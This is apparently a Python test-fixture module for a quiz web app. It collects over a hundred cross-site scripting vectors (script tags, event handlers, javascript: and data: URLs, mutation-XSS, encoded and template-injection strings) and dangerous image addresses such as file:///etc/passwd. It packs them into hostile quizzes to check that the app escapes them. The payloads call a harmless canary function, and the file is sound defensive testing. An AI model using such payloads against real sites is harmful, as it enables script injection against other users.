"""Texts that would run something if a page took them for more than texts; and the quizzes that the tests here are played with.

Each vector calls `canary`, which a page under test has, or asks for the picture `/canary`; `alert` opens a dialog.
"""

from __future__ import annotations

import contextlib
from typing import Any

from quiz.domain.errors import NicknameInvalid
from quiz.domain.player import nickname, nickname_look

#: Of twenty characters at most.
FITTING = [
    "<b onclick=canary()>",
    "<i onload=canary()>",
    "<svg onload=canary()",
    "<script>canary()//",
    "javascript:canary()",
    "{{canary()}}",
]

#: Tags, attributes, addresses, encodings, templates, ends of contexts: of each kind that the well-known lists have, one or more.
VECTORS = [
    # Tags that run what is in them.
    "<script>canary()</script>",
    "<SCRIPT>canary()</SCRIPT>",
    "<script src=//canary.invalid/x.js></script>",
    "<script src=data:text/javascript,canary()></script>",
    "<script type=module>canary()</script>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<script/x>canary()</script\n>",
    "<script\x0b>canary()</script>",
    "<<script>canary();//<</script>",
    "<svg><script>canary()</script></svg>",
    "<svg><script href=data:,canary() />",
    "<svg><script>&#99;anary()</script>",
    "<math><script>canary()</script></math>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    # Handlers.
    "<img src=x onerror=canary()>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=canary()>",
    "<img src='x' onerror='canary()'>",
    '<img src="x" onerror="canary()">',
    "<img src=x:x onerror=&#99;anary()>",
    "<img src=`x` onerror=canary()>",
    "<img srcset=x onerror=canary()>",
    "<image src=x onerror=canary()>",
    "<IMG SRC=x OnErRoR=canary()>",
    '<img """><script>canary()</script>">',
    "<svg onload=canary()>",
    "<svg/onload=canary()>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><set onbegin=canary() attributename=x>",
    "<svg><a xlink:href=javascript:canary()><text x=20 y=20>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary()>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.canary()</script>'></svg>",
    "<body onload=canary()>",
    "<body onpageshow=canary()>",
    "<input autofocus onfocus=canary()>",
    "<select autofocus onfocus=canary()>",
    "<textarea autofocus onfocus=canary()>",
    "<keygen autofocus onfocus=canary()>",
    "<a id=x tabindex=1 autofocus onfocus=canary()>x</a>",
    "<details open ontoggle=canary()>",
    "<video src=x onerror=canary()>",
    "<video><source onerror=canary()></video>",
    "<audio src=x onerror=canary()>",
    "<marquee onstart=canary()>x</marquee>",
    "<object onerror=canary() data=x>",
    "<p onpointerenter=canary()>x</p>",
    "<div onanimationstart=canary() style='animation:spin 1s'>x</div>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=canary()>",
    "<xss onfocus=canary() autofocus tabindex=1>x",
    "<dialog open onclose=canary()><form method=dialog><button autofocus>",
    "<button popovertarget=x>x</button><xss onbeforetoggle=canary() popover id=x>",
    "<p onmouseover=canary()>x</p>",
    # Frames, documents, plug-ins, addresses that run.
    "<iframe src=javascript:parent.canary()>",
    "<iframe srcdoc='<script>parent.canary()</script>'>",
    "<iframe src='data:text/html,<script>parent.canary()</script>'>",
    "<iframe onload=canary()>",
    "<frameset onload=canary()>",
    "<embed src=javascript:canary()>",
    "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cGFyZW50LmNhbmFyeSgpPg==>",
    "<object data=javascript:canary()>",
    "<object data='data:text/html,<script>parent.canary()</script>'>",
    "<a href=javascript:canary()>x</a>",
    "<a href='jav\tascript:canary()'>x</a>",
    "<a href='&#106;avascript:canary()'>x</a>",
    "<a href='\x01javascript:canary()'>x</a>",
    "<form action=javascript:canary()><input type=submit autofocus></form>",
    "<form><button formaction=javascript:canary()>x</button></form>",
    "<isindex action=javascript:canary() type=image>",
    "<base href=//canary.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    "<meta http-equiv=refresh content='0;url=/canary'>",
    "<link rel=stylesheet href=//canary.invalid/x.css>",
    "<link rel=import href='data:text/html,<script>canary()</script>'>",
    "<link rel=preload as=script href=/canary>",
    "<style>@import '/canary';</style>",
    "<style>*{background:url(/canary)}</style>",
    "<p style=background:url(/canary)>",
    "<p style='width:expression(canary())'>",
    "<p style='-moz-binding:url(/canary)'>",
    "<table background=/canary>",
    "<img src=/canary>",
    "<picture><source srcset=/canary><img></picture>",
    "<video poster=/canary>",
    "<input type=image src=/canary>",
    "<portal src=/canary>",
    # The ends of the contexts that a text may stand in.
    "</title><script>canary()</script>",
    "</textarea><script>canary()</script>",
    "</style><script>canary()</script>",
    "</script><script>canary()</script>",
    "</noscript><script>canary()</script>",
    "</main></body></html><script>canary()</script>",
    "--><script>canary()</script>",
    "]]><script>canary()</script>",
    '"><script>canary()</script>',
    "'><script>canary()</script>",
    '" autofocus onfocus=canary() x="',
    "' autofocus onfocus='canary()' x='",
    "` onmouseover=canary() `",
    "x onerror=canary()",
    "';canary();//",
    '";canary();//',
    "\\';canary();//",
    '\\";canary();//',
    "</script><!--<script>canary()",
    "<!--><img src=x onerror=canary()>-->",
    "<!--#exec cmd='x'--><img src=x onerror=canary()>",
    "<![CDATA[<img src=x onerror=canary()>]]>",
    "<?xml version='1.0'?><svg onload=canary()>",
    # What a clean-up that reads another language than the browser makes run.
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "<svg></p><style><a id='</style><img src=x onerror=canary()>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=canary() src>'>",
    "<table><caption><svg><title><style><img src=x onerror=canary()></style>",
    "<template><script>canary()</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=canary()></template></div>",
    # Encodings.
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;script&#62;canary()&#60;/script&#62;",
    "&#x3c;img src=x onerror=canary()&#x3e;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "\\x3cscript\\x3ecanary()\\x3c/script\\x3e",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "\u2039script\u203acanary()\u2039/script\u203a",
    "<\u017fcript>canary()</\u017fcript>",
    "<\u0131mg src=x onerror=canary()>",
    "<script>canary\u2028()</script>",
    # What templates and frameworks put in place of it.
    "{{constructor.constructor('canary()')()}}",
    "${canary()}",
    "#{canary()}",
    "<%= canary() %>",
    "{{7*7}}{{config}}",
    "[[canary()]]",
    "<div v-html=\"'<img src=x onerror=canary()>'\">",
    "<div ng-app ng-csp>{{$eval.constructor('canary()')()}}</div>",
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=canary()>"}}',
    '{"type":"script","props":{"children":"canary()"}}',
    "__proto__",
    "constructor",
    "<a id=canary><a id=canary name=x>",
    "<form id=x><input name=attributes></form>",
    "<img name=getElementById>",
    "javascript:canary()",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+canary()//'>",
    '=HYPERLINK("javascript:canary()","x")',
]

#: Addresses of pictures that would run something if they were followed; no quiz may hold them.
RUNNING_IMAGES = [
    "javascript:canary()",
    "JaVaScRiPt:canary()",
    " javascript:canary()",
    "\x01javascript:canary()",
    "java\tscript:canary()",
    "java\nscript:canary()",
    "vbscript:canary()",
    "data:text/html,<script>parent.canary()</script>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>parent.canary()</script>",
    "blob:null/canary",
    "filesystem:http://here/canary",
    "file:///etc/passwd",
    "view-source:javascript:canary()",
]
#: Those that are pictures, or might be: with scripts inside, out of their attribute, or on a host that learns who is looking.
IMAGES = [
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.canary()'><script>parent.canary()</script></svg>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0ncGFyZW50LmNhbmFyeSgpJy8+",
    'x" onerror="canary()',
    "x' onerror='canary()",
    "x onerror=canary()",
    '"><script>canary()</script>',
    "http://canary.invalid/x.png",
    "https://canary.invalid/x.png",
    "//canary.invalid/x.png",
]


def names(vectors: list[str]) -> list[str]:
    """Nicknames: those that fit as they are, and the beginnings of the others."""
    found: dict[str, str] = {}
    for vector in (*FITTING, *(one[:20] for one in vectors)):
        with contextlib.suppress(NicknameInvalid):
            found.setdefault(nickname_look(name := nickname(vector)), name)
    return list(found.values())


def hostile_quiz(title: str, vectors: list[str]) -> dict[str, Any]:
    """A quiz of vectors, six to a question: its text, its explanation, and its choices or the answers that it accepts."""
    questions: list[dict[str, Any]] = []
    for number in range(0, len(vectors), 6):
        text, explanation, *others = (vectors[number : number + 6] + vectors)[:6]
        image = IMAGES[len(questions) % len(IMAGES)]
        asked = {"text": text, "explanation": explanation, "image": image, "time_limit": 600}
        kind = ("single", "text", "order", "multiple")[len(questions) % 4]
        if kind == "text":
            accepted = [one[:200] for one in others if one.isprintable()]
            questions.append({**asked, "type": kind, "correct": [*accepted, "right"]})
        else:
            choices = [{"text": one, "image": image} for one in others]
            right = {"single": 0, "order": [3, 2, 1, 0], "multiple": [1, 2]}[kind]
            questions.append({**asked, "type": kind, "choices": choices, "correct": right})
    return {"title": title, "description": vectors[-1], "questions": questions}


#: What only a reveal, or the acknowledgement of a self-paced answer, may say. The right choices are told apart by this too.
SECRETS = ("SECRET-EXPLANATION", "SECRET-SPELLING", "SECRET-OTHER")


def telling_quiz() -> dict[str, Any]:
    """A quiz of all types whose answers can be recognised wherever they turn up."""
    choices = [{"text": f"choice {letter}", "image": f"/static/img/{letter}.png"} for letter in "abcd"]
    questions = [
        {"type": "single", "choices": choices, "correct": 2},
        {"type": "multiple", "choices": choices, "correct": [1, 3]},
        {"type": "true_false", "correct": True},
        {"type": "text", "correct": list(SECRETS[1:])},
        {"type": "number", "correct": 271828.25, "tolerance": 0.0390625},
        {"type": "order", "choices": ["first", "second", "third", "fourth"]},
        {"type": "poll", "choices": choices},
    ]
    common = {"explanation": SECRETS[0], "time_limit": 60}
    return {"title": "Telling", "questions": [{**common, "text": f"Question {n}", **one} for n, one in enumerate(questions, 1)]}
